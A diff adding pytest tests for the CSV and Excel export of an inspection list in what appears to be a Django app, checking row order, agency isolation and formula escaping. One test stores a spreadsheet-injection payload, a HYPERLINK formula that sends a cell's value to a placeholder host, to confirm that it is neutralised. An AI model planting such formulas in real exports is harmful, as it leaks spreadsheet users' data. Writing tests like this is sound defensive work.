@@ -665,3 +665,61 @@ def test_the_saved_state_of_a_household_is_read_with_an_audit_entry(client, kim,
     )
     client.force_login(fabian)
     assert client.get(url).status_code == 404
+
+
+# --- export of the list -----------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
+
+
+def test_the_inspection_export_has_the_inspections_of_the_page_in_its_order(client, kim, world):
+    import csv
+    import io
+
+    import openpyxl
+
+    _plan(kim, world)
+    earlier = Inspection.objects.create(
+        campaign=world["campaign"],
+        scheduled_at=dt.datetime(2020, 1, 2, 8, 0, tzinfo=dt.UTC),
+        meeting_point="Rathaus",
+    )
+    earlier.agencies.set([kim.agency])
+    client.force_login(kim)
+    page = client.get(reverse("inspections:list"))
+    shown = [i.scheduled_at for i in page.context["upcoming"] + page.context["past"]]
+    assert "/kontrollen/export.csv" in page.content.decode()
+    response = client.get(reverse("inspections:export", args=["csv"]))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0] == ["Abschnitt", "Termin", "Treffpunkt", "Aktionszeitraum", "Objekte", "Status"]
+    assert len(rows) == 1 + len(shown) and rows[-1][0] == "Vergangene Kontrollen"
+    assert rows[-1][1].startswith("02.01.2020")
+    book = openpyxl.load_workbook(
+        io.BytesIO(client.get(reverse("inspections:export", args=["xlsx"])).content)
+    )
+    assert [row[0].value for row in book.active.iter_rows(min_row=2)] == [row[0] for row in rows[1:]]
+    assert client.get(reverse("inspections:export", args=["txt"])).status_code == 404
+
+
+def test_the_inspection_export_escapes_formulas_and_has_no_inspection_of_another_agency(
+    client, kim, bea, world
+):
+    import csv
+    import io
+
+    import openpyxl
+
+    inspection = _plan(kim, world)
+    inspection.meeting_point = FORMULA
+    inspection.save()
+    client.force_login(kim)
+    body = client.get(reverse("inspections:export", args=["csv"])).content.decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(body), delimiter=";"))[1]
+    assert row[2] == "'" + FORMULA
+    sheet = openpyxl.load_workbook(
+        io.BytesIO(client.get(reverse("inspections:export", args=["xlsx"])).content)
+    ).active
+    assert sheet.cell(row=2, column=3).value == "'" + FORMULA
+    client.force_login(bea)
+    body = client.get(reverse("inspections:export", args=["csv"])).content.decode("utf-8-sig")
+    assert len(list(csv.reader(io.StringIO(body), delimiter=";"))) == 1
